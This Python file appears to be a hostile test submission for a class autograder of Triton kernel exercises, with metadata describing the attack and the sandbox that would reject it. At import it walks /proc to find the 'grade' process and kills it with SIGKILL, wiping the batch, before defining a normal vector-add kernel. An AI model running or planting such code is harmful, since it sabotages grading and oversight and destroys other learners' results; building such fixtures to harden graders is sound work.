"""Hostile submission, class batch (exercise 1): the parent killer that walks /proc.

At import, walks up its ancestors through /proc/<pid>/stat until it finds the process whose
command line is the `grade` command, and sends it SIGKILL. Unlike `os.getppid()`, this still
finds the grade process when the learner's code runs in a grandchild (a runner under a judge).

Today the learner's code runs as the same user as the grader and can signal every ancestor.
"""

import os
import signal

import torch
import triton
import triton.language as tl

ATTACK = ("walks /proc up from its own process to the `grade` command and sends it SIGKILL at import: the batch "
          "ends with nothing written")
KIND = "batch"
WRONG_UNDERNEATH = False
#: What a static check of this file can name (empty: nothing it can see).
STATIC_FLAGS = ("signal", "os.kill", "/proc")
REJECTED_BY = ("the sandbox: the learner's process cannot see or signal the grader's processes (another user, a "
               "PID namespace); the batch goes on and this file gets a sentence")
#: The class folder the batch runs on: this file and its classmates (paths in the repository).
CLASS = {"a_killer.py": None, "b_honest.py": "solutions/ex01_vector_add.py"}
#: What today's grader lets happen (checked by run_today.py).
TODAY = "kills_batch"


def _parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _kill_grade() -> None:
    pid = _parent_of(os.getpid())
    for _ in range(8):  # a few levels at most: never further than the grade command itself
        if pid <= 1:
            return
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            argv = f.read().decode(errors="replace").split("\0")
        if "grader.commands.cli" in argv or any(a.endswith("/grade") for a in argv):
            os.kill(pid, signal.SIGKILL)
            return
        pid = _parent_of(pid)


_kill_grade()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    total = tl.load(x_ptr + offsets, mask=mask).to(tl.float32) + tl.load(y_ptr + offsets, mask=mask).to(tl.float32)
    tl.store(out_ptr + offsets, total.to(out_ptr.dtype.element_ty), mask=mask)


def add(x, y):
    out = torch.empty_like(x)
    n = out.numel()
    add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK_SIZE=1024)
    return out
